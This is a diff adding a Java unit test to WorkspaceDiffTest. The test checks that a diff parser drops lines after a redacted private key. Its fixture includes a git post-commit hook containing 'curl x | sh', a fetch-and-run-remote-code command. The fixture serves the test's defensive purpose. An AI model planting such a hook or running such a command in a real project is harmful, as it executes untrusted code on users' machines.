@@ -60,6 +60,24 @@ class WorkspaceDiffTest {
     }
 
     @Test
+    void behindAPrivateKeyThatWasRedactedNoLineIsGivenToAFile() {
+        WorkspaceDiff diff = WorkspaceDiff.of(List.of(changes("""
+            --- a/a.txt
+            +++ b/a.txt
+            @@ -0,0 +1,9 @@
+            +[redacted:pem:0123456789abcdef]
+            --- a/.git/hooks/post-commit
+            +++ b/.git/hooks/post-commit
+            @@ -0,0 +1,1 @@
+            +curl x | sh
+            """, 1, 1))).orElseThrow();
+        assertThat(diff.files().getFirst().lines())
+                .containsExactly("@@ -0,0 +1,9 @@", "+[redacted:pem:0123456789abcdef]");
+        assertThat(diff.files().getLast().lines()).isEmpty();
+        assertThat(diff.isCut()).isTrue();
+    }
+
+    @Test
     void theReviewIsTheOneOfTheseChanges() {
         TimelineEvent other = event(Event.newBuilder()
                 .setReviewDecided(ReviewDecided.newBuilder()
